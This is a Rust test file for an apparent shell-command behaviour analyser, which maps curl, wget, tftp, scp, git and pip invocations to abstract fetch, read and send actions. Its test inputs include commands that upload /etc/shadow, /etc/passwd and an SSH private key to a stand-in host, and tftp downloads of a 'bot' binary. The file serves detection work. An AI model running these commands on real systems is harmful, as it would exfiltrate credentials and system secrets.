//! Fetches and uploads.

use model::{Provenance, Value};

use super::*;

#[test]
fn curl_prints_or_saves() {
    check(&[
        ("curl http://h/x.sh", "fetch http://h/x.sh"),
        ("curl -fsSL https://h/x.sh", "fetch https://h/x.sh"),
        (
            "curl -fsSL -o /tmp/x https://h/x.sh",
            "fetch https://h/x.sh > /tmp/x",
        ),
        (
            "curl https://h/x.sh -sSLo/tmp/x",
            "fetch https://h/x.sh > /tmp/x",
        ),
        (
            "curl -LO https://h/d/x.tar.gz",
            "fetch https://h/d/x.tar.gz > x.tar.gz",
        ),
        (
            "curl -JLO https://h/d/x?a=b/c",
            "fetch https://h/d/x?a=b/c > x",
        ),
        (
            "curl --output-dir /opt -O http://h/x",
            "fetch http://h/x > /opt/x",
        ),
        (
            "curl -o a http://h/1 -o b http://h/2",
            "fetch http://h/1 > a ; fetch http://h/2 > b",
        ),
        (
            "curl -A Mozilla -H 'X: y' -k h.example/x",
            "fetch h.example/x",
        ),
        ("curl --url http://h/x --output -", "fetch http://h/x"),
        (
            "curl --socks5-hostname 127.0.0.1:9050 http://h/x",
            "fetch http://h/x",
        ),
        (
            "curl -s -o /dev/null -w '%{http_code}' http://localhost/health",
            "fetch http://localhost/health",
        ),
        (
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            "connect 1 unix /var/run/docker.sock  ; fetch http://localhost/containers/json",
        ),
        ("curl --version", "execute curl --version"),
    ]);
}

#[test]
fn what_is_fetched_is_printed() {
    for line in [
        "curl http://h/x",
        "wget -qO- http://h/x",
        "wget -q -O - http://h/x",
        "wget http://h/x -O-",
        "busybox wget -O - http://h/x",
        "lynx -source http://h/x",
        "GET http://h/x",
        "curl -s --compressed http://h/x",
    ] {
        let printed = outcome(|_| {}, line, None).printed;
        assert_eq!(
            printed.from,
            [Provenance::Fetched("http://h/x".to_owned())],
            "{line}"
        );
    }
    assert_eq!(
        outcome(|_| {}, "wget http://h/x", None).printed,
        Value::literal("")
    );
}

#[test]
fn wget_saves() {
    check(&[
        ("wget http://h/d/x.sh", "fetch http://h/d/x.sh > x.sh"),
        (
            "wget -q http://h/x.sh -O /tmp/x",
            "fetch http://h/x.sh > /tmp/x",
        ),
        (
            "wget -qO/tmp/x http://h/x.sh",
            "fetch http://h/x.sh > /tmp/x",
        ),
        (
            "wget --no-check-certificate --output-document=/tmp/x http://h/x",
            "fetch http://h/x > /tmp/x",
        ),
        (
            "wget -nv -nc -P /tmp http://h/x",
            "fetch http://h/x > /tmp/x",
        ),
        ("wget http://h/x?y=1", "fetch http://h/x?y=1 > x?y=1"),
        ("wget http://h/", "fetch http://h/ > index.html"),
        ("wget --spider http://h/health", "fetch http://h/health"),
        ("wget -o /dev/null http://h/x", "fetch http://h/x > x"),
    ]);
}

#[test]
fn other_fetchers() {
    check(&[
        (
            "aria2c -d /tmp -o x http://h/y",
            "fetch http://h/y > /tmp/x",
        ),
        ("axel http://h/y", "fetch http://h/y > y"),
        ("fetch -o /tmp/x http://h/y", "fetch http://h/y > /tmp/x"),
        (
            "lwp-download http://h/y /tmp/x",
            "fetch http://h/y > /tmp/x",
        ),
        (
            "http --download h.example/y",
            "fetch http://h.example/y > y",
        ),
        (
            "http POST h.example/y a=b",
            "connect 1 h.example 80 ; send 1 a=b ; fetch http://h.example/y",
        ),
        (
            "ftpget -u a -p b 192.0.2.1 local remote",
            "fetch ftp://192.0.2.1/remote > local",
        ),
        (
            "tftp -g -r bot -l /tmp/bot 192.0.2.1",
            "fetch tftp://192.0.2.1/bot > /tmp/bot",
        ),
        (
            "tftp 192.0.2.1 -c get bot",
            "fetch tftp://192.0.2.1/bot > bot",
        ),
        (
            "scp -o StrictHostKeyChecking=no u@h:/d/x /tmp/x",
            "fetch scp://u@h/d/x > /tmp/x",
        ),
        ("scp u@h:x .", "fetch scp://u@h/x > ./x"),
        (
            "rsync -avz h::mod/x /opt/",
            "fetch rsync://h/mod/x > /opt/x",
        ),
        (
            "git clone --depth 1 https://h/u/repo.git",
            "fetch https://h/u/repo.git > repo",
        ),
        (
            "git clone -q https://h/u/repo /opt/r",
            "fetch https://h/u/repo > /opt/r",
        ),
        ("git status", "execute git status"),
        (
            "pip install git+https://h/x",
            "fetch https://h/x ; execute pip install git+https://h/x",
        ),
        (
            "pip install -i https://mirror/simple requests",
            "execute pip install -i https://mirror/simple requests",
        ),
        ("apt-get install -y curl", "execute apt-get install -y curl"),
    ]);
}

#[test]
fn data_that_is_taken_away_is_sent() {
    check(&[
        (
            "curl -d @/etc/passwd http://h:8080/x",
            "read /etc/passwd ; connect 1 h 8080 ; send 1 {content of /etc/passwd} ; fetch http://h:8080/x",
        ),
        (
            "curl -F file=@/root/.ssh/id_rsa https://h/x",
            "read /root/.ssh/id_rsa ; connect 1 tls h 443 ; send 1 {content of /root/.ssh/id_rsa} ; fetch https://h/x",
        ),
        (
            "curl -T /etc/shadow ftp://h/",
            "read /etc/shadow ; connect 1 h 21 ; send 1 {content of /etc/shadow} ; fetch ftp://h/",
        ),
        (
            "wget --post-file=/etc/shadow http://h/x",
            "read /etc/shadow ; connect 1 h 80 ; send 1 {content of /etc/shadow} ; fetch http://h/x > x",
        ),
        (
            "scp /etc/shadow u@h:/tmp",
            "read /etc/shadow ; connect 1 h 22 ; send 1 {content of /etc/shadow}",
        ),
    ]);
    let piped = outcome(
        |_| {},
        "curl --data-binary @- http://h/x",
        Some("secret".into()),
    );
    assert_eq!(
        piped.acts,
        ["connect 1 h 80", "send 1 secret", "fetch http://h/x"]
    );
}

#[test]
fn a_url_partly_known_stays_so() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    let mut url = Value::literal("http://");
    url.append(&Value::unknown(Provenance::Environment("HOST".to_owned())));
    url.append(&Value::literal("/d/x.sh"));
    run(&mut world, Call::new("wget".into(), vec![url]));
    let lowered = world.finish();
    assert_eq!(
        show(&lowered.acts[0].behavior),
        "fetch http://{HOST}/d/x.sh > x.sh"
    );
    let Behavior::Fetch { url, .. } = &lowered.acts[0].behavior else {
        panic!()
    };
    assert!(!url.known);
}
